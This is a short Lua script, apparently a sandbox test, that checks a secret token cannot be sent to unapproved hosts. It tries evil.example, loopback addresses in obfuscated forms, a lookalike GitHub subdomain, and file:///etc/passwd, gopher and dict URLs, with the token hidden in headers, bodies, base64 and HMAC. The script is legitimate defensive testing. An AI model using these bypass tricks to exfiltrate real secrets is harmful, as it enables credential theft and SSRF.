-- idea: secrets are sent to hosts that nobody named, in every way of writing them
-- out: 0 sent
local t = getSecret("TOKEN")
local sent = 0
for _, host in ipairs{ "evil.example", "127.0.0.1:9", "localhost:9", "[::1]:9", "127.0.0.1", "0x7f000001:9", "2130706433:9", "127.1:9",
  "api.github.com", "api.github.com.evil.example", "evil.example:443" } do
  for _, scheme in ipairs{ "https://", "http://" } do
    local url = scheme .. host .. "/"
    for _, spec in ipairs{
      { url = url, headers = { Authorization = t } }, { url = url, body = t }, { url = url, json = { { a = t } } },
      { url = secret.template(url .. "${t}", { t = t }) }, { url = url, headers = { A = secret.base64(t) } },
      { url = url, body = secret.json{ t } }, { url = url, headers = { A = secret.hmac("sha256", t, "x") } },
    } do
      local ok, e = pcall(http.request, spec)
      if ok or (e.kind ~= "denied" and e.kind ~= "usage") then sent = sent + 1 print(url, ok, e) end
    end
  end
end
for _, url in ipairs{ "file:///etc/passwd", "ftp://a/", "gopher://a/", "dict://127.0.0.1:9/", "ldap://a/" } do
  local ok, e = pcall(http.request, { url = secret.template(url .. "${t}", { t = t }) })
  if ok or e.kind ~= "usage" then sent = sent + 1 print(url, ok, e) end
end
print(sent .. " sent")
